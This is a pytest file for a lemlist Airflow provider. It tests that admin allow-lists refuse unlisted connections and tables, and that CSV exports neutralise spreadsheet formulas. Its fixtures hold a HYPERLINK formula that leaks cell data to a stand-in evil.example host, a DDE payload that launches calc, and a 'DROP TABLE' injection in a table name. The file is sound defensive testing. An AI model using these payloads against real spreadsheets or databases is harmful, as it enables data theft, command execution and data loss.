"""Issue 12's trigger-form cases for connections, tables and spreadsheet formulas, typed into the shipped
DAGs' forms and run with ``dag.test()`` against the sandbox over HTTP.

- A lemlist connection, a SQL connection or a table off the admin's allow-lists fails its task on the first
  try (no retries), naming the Param, the value and the allowed list; the sandbox saw no request and the
  database the form pointed at is as it was. The same run passes once an admin lists the value.
- Report, results, audit and export files hold ``'=HYPERLINK(...)`` where the data held ``=HYPERLINK(...)``;
  with ``[lemlist] neutralise_csv_formulas = False`` they hold the data as it came.
"""

from __future__ import annotations

import csv
import json
import sqlite3
import uuid
from pathlib import Path

import pytest

from lemlist_provider.safe_csv import FORMULA_STARTS
from lemlist_sandbox import connection_json
from lemlist_sandbox.routes.exports import csv_bytes
from lemlist_sandbox.seed import add_campaign, add_lead

pytestmark = pytest.mark.usefixtures("storage_roots", "lemlist_pool")
ROOT = Path(__file__).resolve().parents[2]
LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
RAW = "AIRFLOW__LEMLIST__NEUTRALISE_CSV_FORMULAS"


def _refused_at_once(run, task_id: str, capfd, param: str, value: str, key: str) -> None:
    assert run.state == "failed"
    (ti,) = [t for t in run.get_task_instances() if t.task_id == task_id]
    assert ti.state == "failed" and ti.try_number == 1, (ti.state, ti.try_number)  # no retries
    text = capfd.readouterr()
    expected = (f"{param}={value!r} is not an allowed", "allowed: ", f"[lemlist] {key}")
    assert any(all(part in line for part in expected) for line in (text.out + text.err).splitlines()), (
        expected
    )


def _rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _no_formula_cell(rows: list[dict]) -> None:
    cells = [value for row in rows for value in row.values() if value]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


# -- connections and tables ----------------------------------------------------------------------------
def test_lemlist_conn_id_must_be_on_the_list(
    shipped_dags, form_defaults, sandbox, lemlist_conn, monkeypatch, capfd
):
    """Any connection id typed into the form: refused before a request, though the connection exists."""
    other_key = f"security-other-{uuid.uuid4().hex[:8]}"
    sandbox.create_team(other_key, name="someone else's team")
    monkeypatch.setenv("AIRFLOW_CONN_LEMLIST_OTHER", connection_json(sandbox.base_url, other_key))
    dag = shipped_dags["lemlist_account_overview"]
    before = sandbox.stats()["total_requests"]
    run = dag.test(run_conf={**form_defaults(dag), "lemlist_conn_id": "lemlist_other"})
    _refused_at_once(run, "summary", capfd, "lemlist_conn_id", "lemlist_other", "lemlist_conn_ids")
    assert sandbox.stats()["total_requests"] == before

    monkeypatch.setenv("AIRFLOW__LEMLIST__LEMLIST_CONN_IDS", "lemlist_default, lemlist_other")  # the admin
    run = dag.test(run_conf={**form_defaults(dag), "lemlist_conn_id": "lemlist_other"})
    assert run.state == "success"
    (ti,) = run.get_task_instances()
    assert ti.xcom_pull(task_ids="summary")["team_name"] == "someone else's team"


SENSOR_DAG = """
import pendulum
from airflow.sdk import DAG
from lemlist_provider.sensors.enrichment import LemlistEnrichmentSensor

with DAG("{dag_id}", schedule=None, start_date=pendulum.datetime(2026, 1, 1), default_args={{"retries": 2}}):
    LemlistEnrichmentSensor(
        task_id="wait", enrichment_ids=["enr_0123456789"], lemlist_conn_id="airflow_db", deferrable=True
    )
"""


def test_a_deferrable_sensor_never_hands_a_refused_connection_to_its_trigger(
    sandbox, lemlist_conn, capfd, tmp_path
):
    """The sensors defer without building a hook: the base class refuses the connection before that too."""
    from airflow.dag_processing.bundles.manager import DagBundlesManager
    from airflow.dag_processing.dagbag import BundleDagBag, sync_bag_to_db

    dag_id = f"security_sensor_{uuid.uuid4().hex[:8]}"
    folder = tmp_path / "dags"
    folder.mkdir()
    (folder / f"{dag_id}.py").write_text(SENSOR_DAG.format(dag_id=dag_id))
    DagBundlesManager().sync_bundles_to_db()
    bag = BundleDagBag(dag_folder=str(folder), bundle_path=folder, bundle_name="dags-folder")
    assert not bag.import_errors, bag.import_errors
    sync_bag_to_db(bag, "dags-folder", None)
    before = sandbox.stats()["total_requests"]
    run = bag.get_dag(dag_id).test()
    _refused_at_once(run, "wait", capfd, "lemlist_conn_id", "airflow_db", "lemlist_conn_ids")
    assert sandbox.stats()["total_requests"] == before


def _crm(path: Path) -> list[tuple]:
    """A database the form must not reach: a table of customers."""
    with sqlite3.connect(path) as conn:
        conn.execute("CREATE TABLE IF NOT EXISTS customers (value TEXT, source TEXT, created_at TEXT)")
        conn.execute("DELETE FROM customers")
        conn.executemany("INSERT INTO customers VALUES (?, 'crm', '')", [("vip@acme.io",), ("ceo@acme.io",)])
    return _tables(path)


def _tables(path: Path) -> list[tuple]:
    with sqlite3.connect(path) as conn:
        names = [
            n for (n,) in conn.execute("SELECT name FROM sqlite_master WHERE type='table' ORDER BY name")
        ]
        return [(name, sorted(conn.execute(f"SELECT * FROM {name}"))) for name in names]


def _sqlite(path: Path) -> str:
    return json.dumps({"conn_type": "sqlite", "host": str(path)})


# truth=lemlist + confirmed mirror: the run that would empty the table of whatever lemlist does not hold
MIRROR = {
    "store": "sql",
    "mode": "mirror",
    "truth": "lemlist",
    "confirm_removals": True,
    "max_removals": 1000,
}


@pytest.mark.parametrize(
    ("conf", "param", "value", "key"),
    [
        ({"sql_conn_id": "crm_db", "table": "lemlist_suppression"}, "sql_conn_id", "crm_db", "sql_conn_ids"),
        ({"sql_conn_id": "suppression_db", "table": "customers"}, "table", "customers", "sql_tables"),
    ],
    ids=["sql_conn_id", "table"],
)
def test_sync_sql_target_must_be_on_the_lists(
    shipped_dags, form_defaults, sandbox, lemlist_conn, monkeypatch, capfd, tmp_path, conf, param, value, key
):
    crm = tmp_path / "crm.db"
    monkeypatch.setenv("AIRFLOW_CONN_CRM_DB", _sqlite(crm))
    monkeypatch.setenv("AIRFLOW_CONN_SUPPRESSION_DB", _sqlite(crm))  # the allowed name, the same file
    tables = _crm(crm)
    dag = shipped_dags["lemlist_unsubscribe_sync"]
    before = sandbox.stats()["total_requests"]
    run = dag.test(run_conf={**form_defaults(dag), **MIRROR, **conf, "audit_dir": str(tmp_path / "audit")})
    _refused_at_once(run, "sync", capfd, param, value, key)
    assert _tables(crm) == tables and sandbox.stats()["total_requests"] == before
    assert not (tmp_path / "audit").exists()


def test_sync_sql_target_from_a_variable_and_injected_names_are_refused(
    shipped_dags, form_defaults, sandbox, lemlist_conn, monkeypatch, capfd, tmp_path
):
    """Variables are often editable by whoever triggers: the fallback obeys the same lists."""
    crm = tmp_path / "crm.db"
    monkeypatch.setenv("AIRFLOW_CONN_CRM_DB", _sqlite(crm))
    monkeypatch.setenv("AIRFLOW_CONN_SUPPRESSION_DB", _sqlite(crm))
    tables = _crm(crm)
    dag = shipped_dags["lemlist_unsubscribe_sync"]
    monkeypatch.setenv("AIRFLOW_VAR_LEMLIST_SUPPRESSION_CONN_ID", "crm_db")
    run = dag.test(run_conf={**form_defaults(dag), **MIRROR, "sql_conn_id": None, "table": None})
    _refused_at_once(run, "sync", capfd, "sql_conn_id", "crm_db", "sql_conn_ids")
    injected = "lemlist_x; DROP TABLE customers"
    run = dag.test(
        run_conf={**form_defaults(dag), **MIRROR, "sql_conn_id": "suppression_db", "table": injected}
    )
    assert run.state == "failed" and f"table={injected!r} is not a valid SQL name" in capfd.readouterr().out
    assert _tables(crm) == tables


# -- spreadsheet formulas ------------------------------------------------------------------------------
@pytest.fixture
def campaign(sandbox, lemlist_conn) -> tuple:
    """A campaign whose lead carries formula cells, as a LinkedIn headline or a CRM import would."""
    team = sandbox.team(lemlist_conn)
    campaign = add_campaign(sandbox.sandbox.world, team, "Formula cells", "running")
    add_lead(sandbox.sandbox.world, team, campaign, "ada@acme.io", firstName=LINK, lastName="-5",
             companyName="@SUM(A1:A9)", jobTitle="\t=1+1", phone="+33 6 12 34 56 78")  # fmt: skip
    return team, campaign["_id"]


def test_import_report_neutralises_formula_cells(
    shipped_dags, form_defaults, campaign, storage_roots, monkeypatch
):
    _, campaign_id = campaign
    dag = shipped_dags["lemlist_lead_import"]
    leads = ["grace@acme.io", LINK, "=cmd|' /C calc'!A0@evil.example"]
    conf = {**form_defaults(dag), "campaign_id": campaign_id, "leads": leads}
    run = dag.test(run_conf={**conf, "output_uri": str(storage_roots / "safe")})
    assert run.state == "success"
    (report,) = (storage_roots / "safe").glob("*.results.csv")
    rows = _rows(report)
    assert [r["email"] for r in rows] == ["grace@acme.io", "'" + LINK, "'=cmd|' /C calc'!A0@evil.example"]
    _no_formula_cell(rows)

    monkeypatch.setenv(RAW, "False")  # the admin's switch
    run = dag.test(run_conf={**conf, "output_uri": str(storage_roots / "raw")})
    (report,) = (storage_roots / "raw").glob("*.results.csv")
    assert [r["email"] for r in _rows(report)][1:] == leads[1:]


def test_enrichment_results_neutralise_formula_cells(shipped_dags, form_defaults, campaign, storage_roots):
    _, campaign_id = campaign
    dag = shipped_dags["lemlist_enrichment"]
    out = storage_roots / "enriched.csv"
    conf = {**form_defaults(dag), "campaign_id": campaign_id, "enrichments": ["verify_email"], "output": str(out),
            "first_poll_seconds": 0.1, "max_poll_interval": 0.5, "write_back": False}  # fmt: skip
    assert dag.test(run_conf=conf).state == "success"
    (row,) = _rows(out)
    assert (row["firstName"], row["lastName"], row["companyName"], row["jobTitle"]) == (
        "'" + LINK, "'-5", "'@SUM(A1:A9)", "'=1+1",  # the input is trimmed
    )  # fmt: skip
    _no_formula_cell([row])


def test_unsubscribe_audit_neutralises_formula_cells(
    shipped_dags, form_defaults, sandbox, lemlist_conn, storage_roots
):
    local = storage_roots / "suppression.csv"
    local.write_text(f'value\n"{LINK.replace(chr(34), chr(34) * 2)}"\n@acme.example\n-1\n', encoding="utf-8")
    dag = shipped_dags["lemlist_unsubscribe_sync"]
    conf = {
        **form_defaults(dag),
        "store": "csv",
        "csv_path": str(local),
        "audit_dir": str(storage_roots / "audit"),
    }
    run = dag.test(run_conf=conf)
    assert run.state == "success"
    (audit,) = (storage_roots / "audit").glob("*.csv")
    rows = _rows(audit)
    assert {(r["action"], r["value"]) for r in rows} >= {
        ("invalid", "'" + LINK), ("added", "'@acme.example"), ("invalid", "'-1"),
    }  # fmt: skip
    _no_formula_cell(rows)


@pytest.mark.parametrize("method", ["async", "sync"])
def test_campaign_export_neutralises_formula_cells(
    shipped_dags, form_defaults, campaign, storage_roots, monkeypatch, method
):
    team, campaign_id = campaign
    lemlist_csv = csv_bytes(team.leads_in_campaign(campaign_id)).decode()  # what lemlist sends
    dag = shipped_dags["lemlist_campaign_export"]
    conf = {**form_defaults(dag), "campaign_id": campaign_id, "method": method, "first_poll": 0.1, "poll_min": 0.1,
            "poll_max": 0.5}  # fmt: skip
    run = dag.test(run_conf={**conf, "output_uri": str(storage_roots / "safe" / "{campaign_id}.csv")})
    assert run.state == "success"
    exported = storage_roots / "safe" / f"{campaign_id}.csv"
    (sent,) = _rows_of(lemlist_csv)[1:]
    (written,) = _rows(exported)
    assert list(written.values()) == [("'" + v if v.startswith(FORMULA_STARTS) else v) for v in sent]
    assert written["firstName"] == "'" + LINK and written["phone"] == "'+33 6 12 34 56 78"

    monkeypatch.setenv(RAW, "False")  # the admin's switch: lemlist's bytes as they came
    run = dag.test(run_conf={**conf, "output_uri": str(storage_roots / "raw" / "{campaign_id}.csv")})
    assert run.state == "success"
    assert (storage_roots / "raw" / f"{campaign_id}.csv").read_text(encoding="utf-8") == lemlist_csv


def _rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(text.splitlines(keepends=True)))
